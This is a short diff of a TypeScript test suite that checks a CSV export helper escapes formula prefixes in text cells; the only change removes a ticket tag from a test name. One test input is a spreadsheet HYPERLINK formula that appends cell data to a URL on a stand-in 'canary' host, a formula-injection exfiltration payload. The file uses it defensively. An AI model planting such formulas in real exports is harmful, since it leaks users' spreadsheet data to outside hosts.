@@ -61,7 +61,7 @@ async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
 }
 
 describe('CSV cells', () => {
-  it('neutralises every formula prefix in text cells (SEC-27)', () => {
+  it('neutralises every formula prefix in text cells', () => {
     expect(csvTextCell('=HYPERLINK("http://canary/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://canary/?""&A1,""x"")"`);
     expect(csvTextCell('+1+1')).toBe("'+1+1");
     expect(csvTextCell('-2+3')).toBe("'-2+3");
